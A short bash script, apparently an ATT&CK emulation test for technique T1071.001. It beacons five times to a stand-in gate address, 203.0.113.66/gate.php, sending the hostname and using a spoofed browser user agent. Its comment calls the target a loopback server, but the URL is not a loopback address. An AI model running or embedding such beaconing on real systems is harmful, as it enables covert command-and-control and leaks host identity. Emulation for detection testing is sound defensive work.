#!/bin/bash
# technique: T1071.001 Application Layer Protocol: Web Protocols
# tactic: command-and-control
# user: www-data
# needs: curl
# does: reports to a foreign server in regular intervals
# harmless: the server that answers is a script on the loopback device

for beat in 1 2 3 4 5; do
	curl -s -A 'Mozilla/5.0 (Windows NT 10.0)' -d "id=$(hostname)&n=$beat" http://203.0.113.66/gate.php >/dev/null
	sleep 0.4
done
